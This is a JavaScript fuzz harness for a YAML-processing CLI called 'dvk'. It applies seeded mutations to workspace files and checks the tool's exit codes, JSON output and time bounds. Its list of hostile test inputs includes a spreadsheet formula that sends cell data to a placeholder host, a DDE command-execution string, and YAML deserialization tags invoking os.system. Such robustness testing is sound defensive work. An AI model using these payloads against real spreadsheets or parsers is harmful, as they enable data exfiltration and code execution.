// Fuzzing dvk: seeded mutations of the example workspace and the test fixtures (byte flips,
// truncation, indentation shifts, hostile scalars, huge counts, generated documents), each run
// through the real CLI: in-process (run() in a worker, ended when a run passes its bound) and,
// for a share of the cases, as a child process. Every run must end within its bound with exit 0,
// 1 or 2 (never 70, never a crash), JSON output must parse with every line >= 1, and score and
// decide must never succeed while validate reports an error in their scope.
//
//   npm run fuzz                           10,000 cases, seed from the clock (printed)
//   npm run fuzz -- --seed 42 --cases 500  a given seed and count
//   npm run fuzz -- --seed 42 --case 317   one case again, with what it changed
//   npm run fuzz -- --seed 42 --from 6200  the cases from 6,200 on, as numbered in the full run
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { Worker } from 'node:worker_threads';
import { Buffer } from 'node:buffer';
import { clearTimeout, setTimeout } from 'node:timers';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const BIN = path.join(ROOT, 'bin', 'dvk.js');
const BASES = [path.join(ROOT, 'examples', 'duy-tien-2023'), path.join(ROOT, 'test', 'fixtures', 'base')];
/** A run's bound: far above any normal run, far below a hang. */
const BOUND_MS = 30_000;

/** mulberry32: a small seeded generator, the same numbers on every machine. */
function rng(seed) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n) => Math.floor(next() * n);
  return { next, int, pick: (xs) => xs[int(xs.length)], chance: (p) => next() < p };
}

const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '"\\e]0;x\\a\\e[2J"', '"\\u202Eabc"', '"\\0"',
  '"x\\n::warning file=a::b"', '[x](http://x.example) @octocat', 'yes', 'off', '1_000', '1:20', '0b101', '.nan', '-.inf', '1e999', '-0',
  '00123', '8,5', '24/5/2023', '2023-02-30', '~', 'null', "''", '""', '__proto__', 'constructor', 'valueOf', '&a x', '*a', '!!js/function "x"',
  '!!python/object:os.system "ls"', '!foo x', '{ a: 1 }', '[1, [2, [3]]]', '|\n  block\n', '>-\n  folded\n', '"unterminated', "'x''y'",
  'x # comment', 'a: b', '- item', '? key', '%YAML 1.1', '---', '...', '\t', 'Việt Nam'.normalize('NFD'), 'ﬁ', '\ufeff', '\u2028', 'x'.repeat(5000),
];
const KEYS = ['kind', 'version', 'id', 'name', 'year', 'unit', 'steps', 'register', 'scores', 'model', 'level', 'framework', 'groups', 'criteria', 'max', 'classes', 'evidence', 'paths', 'out', 'rules', '__proto__', 'constructor', 'toString'];

function walk(dir, out = []) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walk(p, out);
    else if (/\.ya?ml$/.test(e.name)) out.push(p);
  }
  return out;
}

/** A random YAML document: nested mappings, lists and scalars, with a dvk kind now and then. */
function generated(r, depth = 0) {
  const scalar = () => (r.chance(0.3) ? r.pick(HOSTILE) : r.chance(0.5) ? String(r.int(200)) : r.pick(KEYS));
  const node = (d, indent) => {
    if (d > 4 || r.chance(0.4)) return ` ${scalar()}\n`;
    const n = 1 + r.int(4);
    let s = '\n';
    for (let i = 0; i < n; i++) s += r.chance(0.5) ? `${indent}- ${scalar()}\n` : `${indent}${r.pick(KEYS)}:${node(d + 1, `${indent}  `)}`;
    return s;
  };
  let doc = r.chance(0.7) ? `kind: ${r.pick(['model', 'assessment', 'criteria', 'modle'])}\nversion: 1\n` : '';
  for (let i = 0; i < 3 + r.int(8); i++) doc += `${r.pick(KEYS)}:${node(depth, '  ')}`;
  return doc;
}

/** One change to one file's text: what a person, a tool or someone hostile might do to it. */
function mutate(r, text) {
  const lines = text.split('\n');
  const at = r.int(lines.length);
  switch (r.int(10)) {
    case 0: { // flip bytes
      const b = Buffer.from(text);
      for (let k = 0; k < 1 + r.int(4); k++) if (b.length) b[r.int(b.length)] = r.int(256);
      return { what: 'byte flips', bytes: b };
    }
    case 1:
      return { what: 'truncated', bytes: Buffer.from(text).subarray(0, r.int(Buffer.byteLength(text) + 1)) };
    case 2: { // indentation shift
      const d = r.pick([-2, -1, 1, 2, 4]);
      lines[at] = d > 0 ? ' '.repeat(d) + lines[at] : lines[at].slice(-d);
      if (r.chance(0.2)) lines[at] = `\t${lines[at].trimStart()}`;
      return { what: `indent line ${at + 1} by ${d}`, text: lines.join('\n') };
    }
    case 3: case 4: { // a hostile scalar in place of a value, or a key
      const h = r.pick(HOSTILE);
      const m = /^(\s*(?:- )?[^:#\s][^:#]*:)\s*(.*)$/.exec(lines[at]);
      lines[at] = m && r.chance(0.8) ? `${m[1]} ${h}` : `${r.pick(KEYS)}: ${h}`;
      return { what: `line ${at + 1} = ${JSON.stringify(lines[at]).slice(0, 80)}`, text: lines.join('\n') };
    }
    case 5: { // huge counts: a line repeated
      const n = r.pick([100, 1000, 5000]);
      lines.splice(at, 0, ...Array(n).fill(lines[at]));
      return { what: `line ${at + 1} repeated ${n} times`, text: lines.join('\n') };
    }
    case 6: { // lines deleted, swapped or duplicated
      const b = r.int(lines.length);
      if (r.chance(0.5)) [lines[at], lines[b]] = [lines[b], lines[at]];
      else lines.splice(at, 1 + r.int(3));
      return { what: `lines ${at + 1}/${b + 1} moved or deleted`, text: lines.join('\n') };
    }
    case 7:
      return { what: 'generated document', text: generated(r) };
    case 8: { // deep nesting or many keys
      const n = r.pick([50, 70, 900, 3000]);
      return r.chance(0.5)
        ? { what: `nesting ${n}`, text: `${text}\nx: ${'['.repeat(n)}${']'.repeat(n)}\n` }
        : { what: `${n} keys`, text: `${text}\n${Array.from({ length: n }, (_, i) => `k${i}: ${i}`).join('\n')}\n` };
    }
    default: { // a control character or a stray syntax character somewhere
      const pos = r.int(text.length + 1);
      const c = r.pick(['\u0000', '\u001b', '\u202e', '\r', '\t', ':', '"', "'", '[', '{', '&', '*', '!', '#', '|', '>', '%', '@', '`']);
      return { what: `${JSON.stringify(c)} at ${pos}`, text: text.slice(0, pos) + c + text.slice(pos) };
    }
  }
}

/** The commands of a case: validate always, the others now and then. */
function commands(r) {
  const list = [['validate', '--format', 'json'], ['score', '--format', 'json']];
  if (r.chance(0.3)) list.push(['status', '--format', 'json']);
  if (r.chance(0.2)) list.push(['score', '--format', r.pick(['csv', 'markdown', 'table'])]);
  if (r.chance(0.05)) list.push(['fmt', '--check']);
  if (r.chance(0.03)) list.push(['decide', '-o', 'out/fuzz.docx']);
  return list;
}

class Runner {
  constructor() {
    this.seq = 0;
    this.start();
  }
  start() {
    this.worker = new Worker(new URL('./worker.mjs', import.meta.url));
    this.worker.unref();
  }
  /** One in-process run, or { hang: true } when it passes the bound (the worker is then replaced). */
  run(argv, cwd) {
    const id = ++this.seq;
    return new Promise((resolve) => {
      const timer = setTimeout(() => {
        this.worker.removeListener('message', onMessage);
        void this.worker.terminate();
        this.start();
        resolve({ hang: true });
      }, BOUND_MS);
      const onMessage = (msg) => {
        if (msg.id !== id) return;
        clearTimeout(timer);
        this.worker.removeListener('message', onMessage);
        resolve(msg);
      };
      this.worker.on('message', onMessage);
      this.worker.postMessage({ id, argv, cwd });
    });
  }
  close() {
    return this.worker.terminate();
  }
}

function child(argv, cwd) {
  const r = spawnSync('node', [BIN, ...argv], { cwd, encoding: 'utf8', timeout: BOUND_MS, maxBuffer: 1 << 28, env: { PATH: process.env.PATH, NO_COLOR: '1', DVK_LANG: 'vi' } });
  if (r.error && r.error.code !== 'ETIMEDOUT') throw r.error;
  return { code: r.status ?? r.signal, hang: r.error?.code === 'ETIMEDOUT', stdout: r.stdout, stderr: r.stderr };
}

/** The scope of score and decide on these workspaces: the 2023 files and the frameworks. */
const inScope = (file) => /^(models|assessments)\/2023\/|^criteria\//.test(file);

function check(argv, res, validation) {
  const name = argv.join(' ');
  if (res.hang) return `${name}: no end within ${BOUND_MS / 1000} s`;
  if (res.crash) return `${name}: threw ${res.crash.split('\n')[0]}`;
  if (![0, 1, 2].includes(res.code)) return `${name}: exit ${res.code}\n${res.stderr.slice(0, 2000)}`;
  if (argv.includes('json') && res.code !== 2 && res.stdout) {
    let parsed;
    try {
      parsed = JSON.parse(res.stdout);
    } catch {
      return `${name}: output is not JSON`;
    }
    for (const d of parsed.diagnostics ?? []) if (!(d.line >= 1 && d.column >= 1)) return `${name}: a diagnostic at ${d.line}:${d.column}`;
  }
  if ((argv[0] === 'score' || argv[0] === 'decide') && res.code === 0 && validation) {
    const broken = validation.diagnostics.filter((d) => d.severity === 'error' && inScope(d.file));
    if (broken.length) return `${name}: exit 0 while validate reports ${broken[0].rule} in ${broken[0].file}:${broken[0].line}`;
  }
  return undefined;
}

/** Runs `cases` cases from `seed`; returns the failures (each with the seed and case to rerun it). */
export async function fuzz({ seed, cases, only, from = 0, log = () => {}, childShare = 0.02, exampleShare = 0.2 }) {
  const runner = new Runner();
  const failures = [];
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'dvk-fuzz-'));
  try {
    for (let i = only ?? from; i < (only !== undefined ? only + 1 : cases); i++) {
      const r = rng((seed ^ Math.imul(i + 1, 0x9e3779b1)) >>> 0);
      const base = BASES[r.chance(exampleShare) ? 0 : 1];
      const dir = path.join(work, String(i));
      fs.cpSync(base, dir, { recursive: true });
      fs.rmSync(path.join(dir, 'out'), { recursive: true, force: true });
      const files = walk(dir);
      const changes = [];
      for (let k = 0; k < 1 + r.int(3); k++) {
        const file = r.pick(files);
        const m = mutate(r, fs.readFileSync(file, 'utf8'));
        fs.writeFileSync(file, m.bytes ?? m.text);
        changes.push(`${path.relative(dir, file)}: ${m.what}`);
      }
      if (only !== undefined) log(`case ${i}:\n  ${changes.join('\n  ')}\n  workspace: ${dir}`);
      let validation;
      for (const argv of commands(r)) {
        const viaChild = r.chance(childShare);
        const res = viaChild ? child(argv, dir) : await runner.run(argv, dir);
        if (argv[0] === 'validate' && res.code !== 2 && !res.hang) {
          try {
            validation = JSON.parse(res.stdout);
          } catch {
            validation = undefined;
          }
        }
        const problem = check(argv, res, validation);
        if (problem) {
          failures.push({ seed, case: i, problem: `${viaChild ? '(child) ' : ''}${problem}`, changes });
          log(`FAIL seed ${seed} case ${i}: ${problem}\n  ${changes.join('\n  ')}\n  rerun: npm run fuzz -- --seed ${seed} --case ${i}`);
          break;
        }
        if (argv[0] === 'decide' && res.code !== 0 && fs.existsSync(path.join(dir, 'out', 'fuzz.docx'))) {
          failures.push({ seed, case: i, problem: 'decide failed but wrote a document', changes });
        }
      }
      if (only === undefined) fs.rmSync(dir, { recursive: true, force: true });
      if ((i + 1) % 100 === 0) log(`${i + 1}/${cases} cases, ${failures.length} failures`);
    }
  } finally {
    await runner.close();
    if (only === undefined) fs.rmSync(work, { recursive: true, force: true });
  }
  return failures;
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const arg = (name) => {
    const i = process.argv.indexOf(`--${name}`);
    return i > 0 ? Number(process.argv[i + 1]) : undefined;
  };
  const seed = arg('seed') ?? Date.now() % 2 ** 31;
  const cases = arg('cases') ?? 10_000;
  const only = arg('case');
  // --from N: the cases from N on (to finish a run that was stopped), as numbered in the full run.
  const from = arg('from') ?? 0;
  console.log(`dvk fuzz: seed ${seed}, ${only !== undefined ? `case ${only}` : `cases ${from} to ${cases - 1}`}`);
  const started = Date.now();
  const failures = await fuzz({ seed, cases, only, from, log: (s) => console.log(s) });
  console.log(`${failures.length ? `${failures.length} failures` : 'no failure'} in ${Math.round((Date.now() - started) / 1000)} s (seed ${seed})`);
  process.exitCode = failures.length ? 1 : 0;
}
